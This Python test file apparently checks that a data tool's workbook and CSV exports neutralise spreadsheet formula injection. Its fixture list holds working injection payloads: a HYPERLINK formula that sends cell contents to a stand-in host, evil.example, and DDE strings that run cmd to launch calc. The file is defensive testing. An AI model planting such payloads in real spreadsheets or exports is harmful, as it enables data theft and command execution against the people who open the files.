"""Exports write text as text: no formula from data in a workbook, OWASP-neutralised CSV."""

from __future__ import annotations

import csv

import openpyxl

from evaltools.data import load_data, write_csv_folder, write_workbook

EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _evil_data(folder):
    """The demo's events with one hostile label per row (the demo has 7 events)."""
    path = folder / "events.csv"
    rows = list(csv.reader(path.open(encoding="utf-8")))
    i = rows[0].index("label")
    for k, text in enumerate(EVIL, start=1):
        rows[k][i] = text
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return load_data(folder)


def test_workbook_export_never_writes_a_formula(demo_copy, tmp_path):
    data = _evil_data(demo_copy)
    titles = list(data.events["label"])
    path = write_workbook(data, tmp_path / "x.xlsx")
    ws = openpyxl.load_workbook(path)["events"]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in ws[1]]
    got = [ws.cell(row=r, column=header.index("label") + 1).value for r in range(2, ws.max_row + 1)]
    assert got == titles  # the exact text, nothing lost
    # and it reads back as the same data
    assert list(load_data(path).events["label"]) == titles


def test_csv_export_neutralises_formula_leads(demo_copy, tmp_path):
    data = _evil_data(demo_copy)
    out = write_csv_folder(data, tmp_path / "csv")
    rows = list(csv.DictReader((out / "events.csv").open(encoding="utf-8", newline="")))
    titles = [r["label"] for r in rows]
    for text in titles:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text
    assert sum(t.startswith("'") for t in titles) == len([e for e in EVIL if e.strip()])
    # numbers stay numbers: negative amounts are not quoted
    budget = (out / "budget.csv").read_text(encoding="utf-8")
    assert "'" not in budget
